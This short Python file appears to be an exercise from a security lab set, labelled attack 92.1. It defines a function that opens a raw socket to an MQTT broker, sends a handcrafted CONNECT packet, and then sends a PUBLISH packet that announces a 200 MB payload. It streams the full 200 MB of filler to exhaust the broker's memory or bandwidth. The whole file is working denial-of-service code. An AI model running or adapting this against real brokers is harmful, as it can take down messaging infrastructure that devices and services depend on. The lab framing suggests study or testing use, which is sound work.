# tries = "announces 200 MB where the judge listens"
# lab = "92"
# neighbour = "91"
# attacks = ["92.1"]
# keeps = ["92.3"]
# %% ex-92-1
import socket


def announce(broker, topic, text):
    size = 200 << 20
    left, length = len(topic) + 2 + size, b""
    while left:
        left, digit = divmod(left, 128)
        length += bytes([digit | (128 if left else 0)])
    with socket.create_connection((broker.host, broker.port), 5) as link:
        link.sendall(bytes([0x10, 16, 0, 4]) + b"MQTT" + bytes([4, 2, 0, 0, 0, 4]) + b"fill")
        link.recv(4)
        link.sendall(bytes([0x31]) + length + len(topic).to_bytes(2, "big") + topic.encode())
        try:
            for _ in range(200):
                link.sendall(b"x" * (1 << 20))
            link.sendall(bytes([0xC0, 0]))
            link.recv(2)
        except OSError as error:
            print(error)
